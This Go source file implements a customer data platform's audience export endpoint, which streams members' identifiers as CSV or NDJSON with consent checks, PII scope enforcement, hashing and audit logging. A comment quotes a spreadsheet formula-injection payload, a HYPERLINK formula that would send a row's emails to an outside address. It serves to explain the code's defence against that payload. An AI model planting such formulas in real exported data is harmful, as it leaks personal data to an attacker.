package server

import (
	"bufio"
	"context"
	"crypto/sha256"
	"encoding/csv"
	"encoding/hex"
	"encoding/json"
	"net/http"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"time"

	"github.com/rs/zerolog"

	"github.com/idgraph/cdp/access"
	"github.com/idgraph/cdp/audience"
	"github.com/idgraph/cdp/graph"
	"github.com/idgraph/cdp/internal/httpdrain"
	"github.com/idgraph/cdp/internal/reqid"
	"github.com/idgraph/cdp/privacy"
)

// audienceExportPath is the one route of the audiences handler.
const audienceExportPath = "/v1/audiences/{id}/export"

// AudienceExportAction is the audit action of an audience export.
const AudienceExportAction = "audience.export"

// AudienceExportPage is how many members the export reads at a time: one
// page of kept membership, one read transaction for their profiles (and
// identifiers) and, for an audience with a purpose, one ConsentOf call.
const AudienceExportPage = 500

// The export's answer headers: the members the body holds and those left
// out for missing consent, both as counted by the first pass.
const (
	HeaderMembers  = "X-CDP-Members"
	HeaderExcluded = "X-CDP-Excluded"
)

// DefaultExportIdentifiers are the identifier types exported when the
// request names none.
var DefaultExportIdentifiers = []string{graph.TypeEmail, graph.TypePhone, graph.TypeUserID}

// AudienceExport is what the audiences handler reads and writes.
type AudienceExport struct {
	// Engine reads each member's identifiers; its rules say which
	// identifier types exist and which are personal.
	Engine    *graph.Engine
	Audiences audience.Store
	Consent   privacy.ConsentStore
	// Audit receives one entry per export; nil writes none.
	Audit access.Store
	Log   zerolog.Logger
}

// AudienceHandler serves the audience endpoints under /v1/audiences/:
//
//	GET /v1/audiences/{id}/export?format=csv|ndjson&identifiers=email,phone,user_id&hash=sha256
//
// streams every member of the audience's kept membership, in profile id
// order, with the identifiers of the chosen types (default email, phone,
// user_id; each type at most once; a type must be built in or listed in
// the rules). format is csv (default) or ndjson. hash=sha256 replaces
// every value by the lowercase hex SHA-256 of its stored, normalized form
// (emails trimmed and lowercased, phones E.164), as ad platforms'
// customer-match uploads expect.
//
// CSV (text/csv): a header profile_id,<type>... then one row per member;
// the several values of one type in one cell, in key order, joined by |
// (a | or \ inside a value is escaped with \). NDJSON
// (application/x-ndjson): one object per member {"profileId", "<type>":
// [values]...}, then {"kind":"summary","members":N,"excluded":M}.
//
// A member whose profile was merged away (or erased) since the membership
// was kept is left out, neither sent nor counted: the profile it merged
// into holds its identifiers and consent, and is a member or not itself.
//
// Consent: for an audience with a purpose, a member whose consent state
// for it (privacy.StateOf at the time of the request) is not GRANTED is
// left out. A first pass counts the members and those left out (reading
// consent only, nothing is sent), so that the headers X-CDP-Members and
// X-CDP-Excluded can precede the body; the second pass checks consent
// again as it streams, so no member whose consent lapsed between the two
// is sent, and the NDJSON summary gives the counts of what was sent.
//
// Scopes: the caller guards the handler with audiences:read
// (auth.Guard.RequireAudited, with AudienceRefusals, which audits the
// requests refused for want of it). Raw values
// of a personal identifier type (graph.Rules.PersonalData) also need
// pii:read; without it the request is refused with 403 FORBIDDEN naming
// pii:read unless hash=sha256 is given. Errors are JSON {"error",
// "code"}: 400 INVALID_ARGUMENT naming the parameter, 403 FORBIDDEN, 404
// NOT_FOUND for an unknown audience, 405 for a method other than GET or
// HEAD, 503 UNAVAILABLE (with Retry-After) when the store cannot be read
// or the audit entry cannot be written. Each request appends one audit
// entry, action audience.export, with the outcome, the members sent (the
// first access.MaxAuditProfileIDs ids and the count) and, as its reason,
// the audience id and parameters; it is written before any personal data
// is sent. A HEAD counts as a GET does, to answer the same headers, but
// its entry names no member (it sends none) and its reason ends
// "; method=HEAD".
func AudienceHandler(x AudienceExport) http.Handler {
	h := &audienceHandler{x: x}
	mux := http.NewServeMux()
	mux.HandleFunc(audienceExportPath, h.export)
	mux.HandleFunc("/v1/audiences/", func(w http.ResponseWriter, r *http.Request) {
		httpdrain.Body(w, r)
		writeError(w, http.StatusNotFound, "NOT_FOUND", noSuchEndpoint(r))
	})
	return mux
}

type audienceHandler struct {
	x AudienceExport
}

// exportParams are the parsed query parameters of an export.
type exportParams struct {
	format string   // "csv" or "ndjson"
	types  []string // identifier types, in the order asked
	hash   bool
	head   bool // a HEAD: the headers alone, no member sent
}

// reason describes the export for its audit entry.
func (p exportParams) reason(id string) string {
	s := "audience " + id + "; format=" + p.format + "; identifiers=" + strings.Join(p.types, ",")
	if p.hash {
		s += "; hash=sha256"
	}
	if p.head {
		s += "; method=HEAD"
	}
	if len(s) > access.MaxReasonLen {
		// Only with rules listing very many types; the entry must stay valid.
		s = s[:access.MaxReasonLen-3] + "..."
	}
	return s
}

// badParam is a 400 naming the parameter.
type badParam struct{ msg string }

func (e badParam) Error() string { return e.msg }

var typeNameRe = regexp.MustCompile(`^[a-z][a-z0-9_]{0,63}$`)

// parseExportParams reads the query: format, identifiers and hash, each
// at most once, and nothing else.
func parseExportParams(q map[string][]string, rules *graph.Rules) (exportParams, error) {
	p := exportParams{format: "csv", types: DefaultExportIdentifiers}
	for name, vs := range q {
		switch name {
		case "format", "identifiers", "hash":
			if len(vs) > 1 {
				return p, badParam{"the parameter " + name + " is given more than once"}
			}
		default:
			// Named as the collector names a payload's keys: not when it
			// looks like an email or a phone number pasted in its place.
			return p, badParam{"unknown parameter " + clip(graph.MessageKey(name)) + "; the parameters are format, identifiers and hash"}
		}
	}
	if vs := q["format"]; len(vs) == 1 {
		switch vs[0] {
		case "csv", "ndjson":
			p.format = vs[0]
		default:
			// Not echoed, as no value of the request is.
			return p, badParam{"format must be csv or ndjson"}
		}
	}
	if vs := q["hash"]; len(vs) == 1 {
		if vs[0] != "sha256" {
			return p, badParam{"hash must be sha256 (or absent for raw values)"}
		}
		p.hash = true
	}
	if vs := q["identifiers"]; len(vs) == 1 {
		p.types = nil
		for i, t := range strings.Split(vs[0], ",") {
			t = strings.TrimSpace(t)
			switch {
			case t == "":
				return p, badParam{"identifiers[" + strconv.Itoa(i) + "] is empty; give identifier types separated by commas, such as email,phone,user_id"}
			case !typeNameRe.MatchString(t):
				// Not echoed: it may be a value pasted by mistake.
				return p, badParam{"identifiers[" + strconv.Itoa(i) + "] is not an identifier type name (lowercase letters, digits and _)"}
			case rules.Types[t] == nil:
				return p, badParam{"identifiers[" + strconv.Itoa(i) + "]: unknown identifier type " + strconv.Quote(graph.MessageKey(t)) + "; the types are " + strings.Join(knownTypes(rules), ", ")}
			case slices.Contains(p.types, t):
				return p, badParam{"identifiers[" + strconv.Itoa(i) + "]: the type " + strconv.Quote(t) + " is named twice"}
			}
			p.types = append(p.types, t)
		}
	}
	return p, nil
}

// knownTypes lists the identifier types of the rules, sorted.
func knownTypes(r *graph.Rules) []string {
	out := make([]string, 0, len(r.Types))
	for t := range r.Types {
		out = append(out, t)
	}
	slices.Sort(out)
	return out
}

// personal reports whether any of types is personal under the rules.
func personal(types []string, r *graph.Rules) bool {
	for _, t := range types {
		if slices.Contains(r.PersonalData.IdentifierTypes, t) {
			return true
		}
	}
	return false
}

func (h *audienceHandler) logger(ctx context.Context) *zerolog.Logger {
	if l := zerolog.Ctx(ctx); l.GetLevel() != zerolog.Disabled {
		return l
	}
	return &h.x.Log
}

// appendEntry appends e on its own, apart from the request's cancellation.
func (h *audienceHandler) appendEntry(ctx context.Context, e access.AuditEntry) error {
	if h.x.Audit == nil {
		return nil
	}
	ctx, cancel := context.WithTimeout(context.WithoutCancel(ctx), 10*time.Second)
	defer cancel()
	return h.x.Audit.AppendAudit(ctx, []access.AuditEntry{e})
}

// refuse records a refused export and answers the error.
func (h *audienceHandler) refuse(w http.ResponseWriter, r *http.Request, entry access.AuditEntry, status int, code, msg string) {
	entry.Outcome = code
	if err := h.appendEntry(r.Context(), entry); err != nil {
		h.logger(r.Context()).Error().Err(err).Str("audit_id", entry.ID).Str("outcome", code).Msg("audit: audience export entry not written")
	}
	writeError(w, status, code, msg)
}

// page is one page of members read for the export.
type exportPage struct {
	members  []audience.Membership
	idents   map[string][]graph.Identifier // by profile id; nil when not read
	included []bool                        // per member: consent allows it
}

// scan reads the audience's members in id order, AudienceExportPage at a
// time, and calls fn with each page. A member whose profile is no longer
// live (merged away, or erased, since the keeper last kept the membership)
// is left out of the page: its identifiers and consent now belong to the
// profile it merged into, which is a member in its own right or not, so
// counting it too would count the person twice. The profiles of a page
// are read in one transaction with, when withIdents is set or the
// audience has a purpose, their identifiers; an audience with a purpose
// then reads the consent of every member's identifiers (one ConsentOf
// call), to decide which members are included.
func (h *audienceHandler) scan(ctx context.Context, a audience.Audience, now time.Time, withIdents bool, fn func(exportPage) error) error {
	after := ""
	for {
		page, err := h.x.Audiences.Members(ctx, a.ID, audience.Page{After: after, Limit: AudienceExportPage})
		if err != nil {
			return err
		}
		if len(page) == 0 {
			return nil
		}
		ids := make([]string, len(page))
		for i, m := range page {
			ids[i] = m.ProfileID
		}
		var ms []audience.Membership
		var idents map[string][]graph.Identifier
		err = h.x.Engine.Store().View(ctx, func(ctx context.Context, tx graph.ReadTx) error {
			ms, idents = nil, nil
			profiles, err := tx.Profiles(ctx, ids)
			if err != nil {
				return err
			}
			live := make([]string, 0, len(page))
			for _, m := range page {
				if p, ok := profiles[m.ProfileID]; ok && p.Live() {
					ms = append(ms, m)
					live = append(live, m.ProfileID)
				}
			}
			if (withIdents || a.Purpose != "") && len(live) > 0 {
				idents, err = tx.Members(ctx, live)
			}
			return err
		})
		if err != nil {
			return err
		}
		pg := exportPage{members: ms, idents: idents, included: make([]bool, len(ms))}
		for i := range pg.included {
			pg.included[i] = true
		}
		if a.Purpose != "" {
			var keys []string
			for _, m := range ms {
				for _, id := range pg.idents[m.ProfileID] {
					keys = append(keys, id.Key)
				}
			}
			slices.Sort(keys)
			recs, err := h.x.Consent.ConsentOf(ctx, keys)
			if err != nil {
				return err
			}
			for i, m := range ms {
				var mine []privacy.Record
				for _, id := range pg.idents[m.ProfileID] {
					mine = append(mine, recs[id.Key]...)
				}
				pg.included[i] = privacy.StateOf(mine, a.Purpose, now).State == privacy.StateGranted
			}
		}
		if err := fn(pg); err != nil {
			return err
		}
		if len(page) < AudienceExportPage {
			return nil
		}
		after = page[len(page)-1].ProfileID
	}
}

func (h *audienceHandler) export(w http.ResponseWriter, r *http.Request) {
	if r.Method != http.MethodGet && r.Method != http.MethodHead {
		httpdrain.Body(w, r)
		w.Header().Set("Allow", "GET, HEAD")
		writeError(w, http.StatusMethodNotAllowed, "METHOD_NOT_ALLOWED", "the audience export is read with GET")
		return
	}
	ctx := r.Context()
	log := h.logger(ctx)
	principal := access.PrincipalFrom(ctx)
	entry := access.AuditEntry{
		ID: access.NewAuditID(), At: graph.Now(), KeyID: principal.KeyID(), KeyName: principal.KeyName(),
		Action: AudienceExportAction, Outcome: access.OutcomeOK,
	}
	if len(entry.KeyName) > access.MaxNameLen {
		entry.KeyName = ""
	}
	if rid := reqid.From(ctx); len(rid) <= 200 {
		entry.RequestID = rid
	}
	id := r.PathValue("id")
	known := audience.ValidAudienceID(id)
	if known {
		entry.Reason = "audience " + id
	}
	rules := h.x.Engine.Normalizer().Rules()
	p, err := parseExportParams(r.URL.Query(), rules)
	if err != nil {
		h.refuse(w, r, entry, http.StatusBadRequest, "INVALID_ARGUMENT", err.Error())
		return
	}
	p.head = r.Method == http.MethodHead
	if known {
		entry.Reason = p.reason(id)
	}
	if !p.hash && personal(p.types, rules) && !principal.Has(access.ScopePIIRead) {
		h.refuse(w, r, entry, http.StatusForbidden, "FORBIDDEN",
			"raw values of personal identifiers need the scope pii:read; ask for hash=sha256 or use a key with pii:read")
		return
	}
	if !known {
		h.refuse(w, r, entry, http.StatusNotFound, "NOT_FOUND", "not an audience id: audience ids are seg_ and 32 lowercase hex digits (the path is not repeated)")
		return
	}
	auds, err := h.x.Audiences.Audiences(ctx, []string{id})
	if err != nil {
		h.fail(w, r, entry, err)
		return
	}
	a, ok := auds[id]
	if !ok {
		h.refuse(w, r, entry, http.StatusNotFound, "NOT_FOUND", "no audience with this id")
		return
	}

	// First pass: count, without sending anything. A HEAD answers these
	// counts too, but sends no member, so its entry names none.
	members, excluded := 0, 0
	var first []string
	err = h.scan(ctx, a, graph.Now(), false, func(pg exportPage) error {
		for i, m := range pg.members {
			if !pg.included[i] {
				excluded++
				continue
			}
			if members++; !p.head && len(first) < access.MaxAuditProfileIDs {
				first = append(first, m.ProfileID)
			}
		}
		return nil
	})
	if err != nil {
		h.fail(w, r, entry, err)
		return
	}
	if !p.head {
		entry.ProfileIDs, entry.ProfileCount = first, members
	}
	if err := h.appendEntry(ctx, entry); err != nil {
		// No personal data leaves without its audit entry.
		log.Error().Err(err).Str("audit_id", entry.ID).Msg("audit: audience export entry not written; export withheld")
		writeError(w, http.StatusServiceUnavailable, "UNAVAILABLE", "the export's audit entry could not be written; retry later")
		return
	}

	rc := http.NewResponseController(w)
	_ = rc.SetWriteDeadline(time.Now().Add(exportWriteWindow))
	hd := w.Header()
	if p.format == "csv" {
		hd.Set("Content-Type", "text/csv; charset=utf-8")
	} else {
		hd.Set("Content-Type", "application/x-ndjson")
	}
	hd.Set("Cache-Control", "no-store")
	hd.Set("Content-Disposition", `attachment; filename="audience-`+a.ID+`.`+p.format+`"`)
	hd.Set(HeaderMembers, strconv.Itoa(members))
	hd.Set(HeaderExcluded, strconv.Itoa(excluded))
	w.WriteHeader(http.StatusOK)
	if r.Method == http.MethodHead {
		return
	}

	// Second pass: stream.
	bw := bufio.NewWriterSize(w, 64<<10)
	var row rowWriter
	if p.format == "csv" {
		row = newCSVRows(bw, p.types)
	} else {
		row = newNDJSONRows(bw, p.types)
	}
	sent, left := 0, 0
	if err = row.header(); err == nil {
		// Consent is judged again at this pass's own time: a grant that
		// expired since the first pass has lapsed too.
		err = h.scan(ctx, a, graph.Now(), true, func(pg exportPage) error {
			for i, m := range pg.members {
				if !pg.included[i] {
					left++
					continue
				}
				vals := make([][]string, len(p.types))
				for _, ident := range pg.idents[m.ProfileID] {
					if k := slices.Index(p.types, ident.Type); k >= 0 {
						v := ident.Value
						if p.hash {
							v = hashValue(v)
						}
						vals[k] = append(vals[k], v)
					}
				}
				if err := row.member(m.ProfileID, vals); err != nil {
					return err
				}
				sent++
			}
			if err := row.flush(); err != nil {
				return err
			}
			if err := bw.Flush(); err != nil {
				return err
			}
			_ = rc.Flush()
			_ = rc.SetWriteDeadline(time.Now().Add(exportWriteWindow))
			return nil
		})
	}
	if err == nil {
		err = row.summary(sent, left)
	}
	if err == nil {
		err = row.flush()
	}
	if err == nil {
		err = bw.Flush()
	}
	if err != nil {
		// The status is sent: end the connection so the client sees an
		// incomplete body rather than a short export.
		log.Error().Err(err).Str("audience", a.ID).Int("members", sent).Msg("audience export ended early")
		panic(http.ErrAbortHandler)
	}
	if sent != members || left != excluded {
		log.Info().Str("audience", a.ID).Int("members", sent).Int("excluded", left).
			Int("counted_members", members).Int("counted_excluded", excluded).
			Msg("audience export: membership or consent changed between the count and the stream")
	}
}

// fail answers a store error, recording it.
func (h *audienceHandler) fail(w http.ResponseWriter, r *http.Request, entry access.AuditEntry, err error) {
	status, code, msg := errorStatus(err)
	if status == http.StatusInternalServerError {
		h.logger(r.Context()).Error().Err(err).Msg("audience export failed")
	}
	h.refuse(w, r, entry, status, code, msg)
}

// hashValue is the lowercase hex SHA-256 of v.
func hashValue(v string) string {
	sum := sha256.Sum256([]byte(v))
	return hex.EncodeToString(sum[:])
}

// rowWriter writes the body of an export in one format.
type rowWriter interface {
	header() error
	member(profileID string, values [][]string) error
	summary(members, excluded int) error
	flush() error
}

// csvRows writes CSV: a header, one row per member, no summary (the
// counts are in the headers).
type csvRows struct {
	w     *csv.Writer
	types []string
	rec   []string
}

func newCSVRows(w *bufio.Writer, types []string) *csvRows {
	return &csvRows{w: csv.NewWriter(w), types: types, rec: make([]string, len(types)+1)}
}

func (c *csvRows) header() error {
	return c.w.Write(append([]string{"profile_id"}, c.types...))
}

func (c *csvRows) member(profileID string, values [][]string) error {
	c.rec[0] = profileID
	for i, vs := range values {
		c.rec[i+1] = safeCell(vs)
	}
	return c.w.Write(c.rec)
}

// spreadsheetSafe keeps a cell from being read as a formula by a
// spreadsheet that opens the file: identifier values come from whoever
// holds a write key, and a user id such as =HYPERLINK("https://...?"&B2)
// would send a row's emails away when clicked. A cell that starts with =,
// @, a tab or a carriage return, or with + or - followed by anything but a
// plain number (digits, with at most one decimal point: a phone in E.164
// keeps its +, -12.5 stays a number, but -2-3 would be computed), gets a
// leading apostrophe, which spreadsheets show as text.
func spreadsheetSafe(v string) string {
	if v == "" {
		return v
	}
	switch v[0] {
	case '=', '@', '\t', '\r':
		return "'" + v
	case '+', '-':
		if !plainNumber(v[1:]) {
			return "'" + v
		}
	}
	return v
}

// safeCell is the cell of the values vs (joinValues), kept from being
// read as a formula (spreadsheetSafe). A cell of several values each a
// plain number, signed or not (a member's phones in E.164), holds nothing
// a spreadsheet could run, and stays as it is: a single phone does.
func safeCell(vs []string) string {
	cell := joinValues(vs)
	if len(vs) > 1 && !slices.ContainsFunc(vs, func(v string) bool { return !signedNumber(v) }) {
		return cell
	}
	return spreadsheetSafe(cell)
}

// signedNumber reports whether v is a plain number with at most a leading
// + or -.
func signedNumber(v string) bool {
	if v != "" && (v[0] == '+' || v[0] == '-') {
		v = v[1:]
	}
	return plainNumber(v)
}

// plainNumber reports whether s is digits with at most one decimal point
// between them.
func plainNumber(s string) bool {
	whole, frac, dot := strings.Cut(s, ".")
	digits := func(d string) bool { return d != "" && strings.Trim(d, "0123456789") == "" }
	return digits(whole) && (!dot || digits(frac))
}

func (c *csvRows) summary(int, int) error { return nil }

func (c *csvRows) flush() error {
	c.w.Flush()
	return c.w.Error()
}

// joinValues joins the values of one type for one CSV cell: separated by
// |, with | and \ inside a value escaped by \.
func joinValues(vs []string) string {
	if len(vs) == 1 && !strings.ContainsAny(vs[0], `|\`) {
		return vs[0]
	}
	var b strings.Builder
	for i, v := range vs {
		if i > 0 {
			b.WriteByte('|')
		}
		for _, r := range v {
			if r == '|' || r == '\\' {
				b.WriteByte('\\')
			}
			b.WriteRune(r)
		}
	}
	return b.String()
}

// ndjsonRows writes NDJSON: one object per member, with the profile id
// first and the types in the order asked, then a summary line.
type ndjsonRows struct {
	w     *bufio.Writer
	types []string
	buf   strings.Builder
}

func newNDJSONRows(w *bufio.Writer, types []string) *ndjsonRows {
	return &ndjsonRows{w: w, types: types}
}

func (n *ndjsonRows) header() error { return nil }

func (n *ndjsonRows) member(profileID string, values [][]string) error {
	b := &n.buf
	b.Reset()
	b.WriteString(`{"profileId":`)
	writeJSONString(b, profileID)
	for i, t := range n.types {
		b.WriteString(`,"`)
		b.WriteString(t) // a type name: [a-z0-9_] only
		b.WriteString(`":[`)
		for j, v := range values[i] {
			if j > 0 {
				b.WriteByte(',')
			}
			writeJSONString(b, v)
		}
		b.WriteByte(']')
	}
	b.WriteString("}\n")
	_, err := n.w.WriteString(b.String())
	return err
}

func (n *ndjsonRows) summary(members, excluded int) error {
	_, err := n.w.WriteString(`{"kind":"summary","members":` + strconv.Itoa(members) + `,"excluded":` + strconv.Itoa(excluded) + "}\n")
	return err
}

func (n *ndjsonRows) flush() error { return nil }

// writeJSONString writes s as a JSON string, without escaping HTML.
func writeJSONString(b *strings.Builder, s string) {
	var sb strings.Builder
	enc := json.NewEncoder(&sb)
	enc.SetEscapeHTML(false)
	_ = enc.Encode(s)
	b.WriteString(strings.TrimSuffix(sb.String(), "\n"))
}
